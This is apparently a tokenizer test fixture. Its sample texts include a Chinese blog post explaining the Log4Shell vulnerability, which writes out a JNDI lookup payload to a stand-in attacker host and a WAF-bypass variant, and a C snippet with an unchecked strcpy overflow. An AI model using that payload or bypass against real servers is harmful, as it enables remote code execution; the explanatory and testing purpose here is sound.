// Texts on which the byte-level BPE must give Hugging Face's exact ids: English, Chinese (a security
// write-up like the user's own), code, emoji (ZWJ sequences, flags), whitespace runs, numbers,
// contractions in any case, added tokens written in the text, and a large generated mix.

/** A few paragraphs in the style of the user's Chinese/English security blog. */
export const CHINESE_BLOG = `# 缓冲区溢出漏洞分析：从 CVE-2021-44228 到内存安全

上周我在复现 Log4Shell（CVE-2021-44228）时，发现很多教程只讲了 payload，却没有解释 JNDI 查找为什么会被触发。本文从源码层面梳理整个调用链，并给出检测与修复建议。

## 一、背景

Apache Log4j 2 是 Java 生态中最常用的日志框架之一。攻击者只需要让服务器记录一段形如 \${jndi:ldap://attacker.example/a} 的字符串，就能让目标主机去加载远程类，从而实现远程代码执行（RCE）。影响范围包括 2.0-beta9 到 2.14.1 的所有版本，CVSS 评分高达 10.0。

## 二、漏洞原理

Log4j 在格式化消息时会对 \${...} 进行“查找替换”（lookup）。问题在于：用户可控的输入（例如 HTTP 头里的 User-Agent）也会被当作格式串处理。调用链大致如下：

1. Logger.info() → MessagePatternConverter.format()
2. StrSubstitutor.replace() 解析 \${} 表达式
3. JndiLookup.lookup() 发起 LDAP 请求，返回一个 Reference 对象
4. 客户端根据 codebase 下载并实例化恶意类

我用 Wireshark 抓包验证了第 3 步：目标在 0.35 秒内向 1389 端口发起了连接，总共传输了 2,048 字节。

## 三、检测与修复

- 升级到 2.17.1 或更高版本；
- 临时缓解：设置 log4j2.formatMsgNoLookups=true，或者删除 JndiLookup.class；
- 在 WAF 上拦截包含 "\${jndi:" 的请求，但要注意绕过，比如 \${\${lower:j}ndi:...}。

总结一下：内存安全问题（栈溢出、堆溢出、UAF）和注入类问题的根源相同——数据被当成了代码。Don't trust user input! 我们下一篇再聊 Rust 如何从语言层面避免这类问题。`

export const MIXED_TEXTS: string[] = [
  'Hello world',
  "I'll say it's John's and we've, they're, I'm, you'd, don't",
  "I'LL IT'S WE'VE THEY'RE YOU'D DON'T Can'T",
  '你好，世界！Qwen 对中文的支持好得多。',
  CHINESE_BLOG,
  'int main(void) {\n\tchar buf[16];\n\tstrcpy(buf, argv[1]);  // overflow!\n\treturn 0;\n}\n',
  'def f(x):\n    return x ** 2  # square\n\n\n\nprint(f(12345678))\r\n',
  'Numbers: 1 12 123 1234 12345 3.14159 1,000,000 2024-06-01 ０１２３ ٣٤٥',
  'Emoji: 😀 👍🏽 👩‍💻 👨‍👩‍👧‍👦 🏳️‍🌈 🇨🇳🇺🇸🇯🇵 ❤️ 🤖',
  'spaces:   three,\t\ttabs, \n\n\n newlines,  \r\n\r\n crlf, \u00a0nbsp\u3000ideographic\u2028sep   ',
  '    leading and trailing    ',
  '\n\n\n',
  'Combining: e\u0301 a\u0308 Å n\u0303 ﬁ Ｆｕｌｌ',
  'Special tokens in text: <|endoftext|>hello<|im_start|>user\nhi<|im_end|>\n<think>\nok\n</think>',
  'Llama specials: <|begin_of_text|><|start_header_id|>user<|end_header_id|>\n\nhi<|eot_id|>',
  'URL https://example.com/a?b=c&d=e#f and email a.b@c.de; path C:\\Windows\\System32',
  'Mixed 中文English混合text 日本語 한국어 Русский العربية עברית ไทย'
]

/** Deterministic xorshift, so the generated corpus is the same on every run. */
function rng(seed: number): () => number {
  let s = seed >>> 0
  return () => {
    s ^= s << 13
    s >>>= 0
    s ^= s >> 17
    s ^= s << 5
    s >>>= 0
    return s / 0x100000000
  }
}

/** About `chars` characters of the texts above cut into random fragments (whole code points) and shuffled together. */
export function generatedCorpus(chars: number, seed = 16): string {
  const next = rng(seed)
  const source = Array.from(MIXED_TEXTS.join('\n'))
  const glue = [' ', '\n', '\n\n', '\t', '  ', '', '。', ', ', '\n\n\n', '<|im_end|>']
  let out = ''
  while (out.length < chars) {
    const start = Math.floor(next() * source.length)
    const length = 1 + Math.floor(next() * 80)
    out += source.slice(start, start + length).join('') + glue[Math.floor(next() * glue.length)]
    if (next() < 0.05) out += String(Math.floor(next() * 1e9))
  }
  return out
}
